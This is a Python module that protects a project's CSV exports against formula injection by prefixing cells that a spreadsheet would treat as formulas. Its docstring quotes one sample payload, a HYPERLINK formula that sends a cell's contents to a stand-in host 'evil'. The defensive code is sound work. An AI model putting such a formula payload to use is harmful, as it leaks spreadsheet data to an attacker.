"""Every CSV file gatekeeper writes goes through here: cells that a spreadsheet would run are neutralised.

CSV/formula injection (OWASP): a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is taken as a formula by Excel, LibreOffice and Google Sheets, so a customer's legal name
such as ``=HYPERLINK("http://evil/?"&A1,"click")`` would run on a reviewer's machine. Such a cell is
written with a leading ``'``, which the spreadsheet shows as text; the csv module quotes the rest.
Only text is touched: numbers stay numbers (a negative number is not a formula).

# INVARIANT: nothing in gatekeeper writes CSV except through ``write_csv`` / ``csv_writer``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value``, with a leading ``'`` when it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, f: IO[str]) -> None:
        # RFC 4180 line ends: a cell holding a bare CR is then quoted too.
        self._w = csv.writer(f, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> int:
        n = 0
        for row in rows:
            self.writerow(row)
            n += 1
        return n


def csv_writer(f: IO[str]) -> SafeWriter:
    return SafeWriter(f)


def write_csv(f: IO[str], header: Sequence[str], rows: Iterable[Iterable[Any]]) -> int:
    """Write ``header`` and ``rows`` (neutralised) to the open text file ``f``; the number of rows."""
    w = SafeWriter(f)
    w.writerow(header)
    return w.writerows(rows)


__all__ = ["FORMULA_START", "SafeWriter", "csv_writer", "neutralise", "write_csv"]
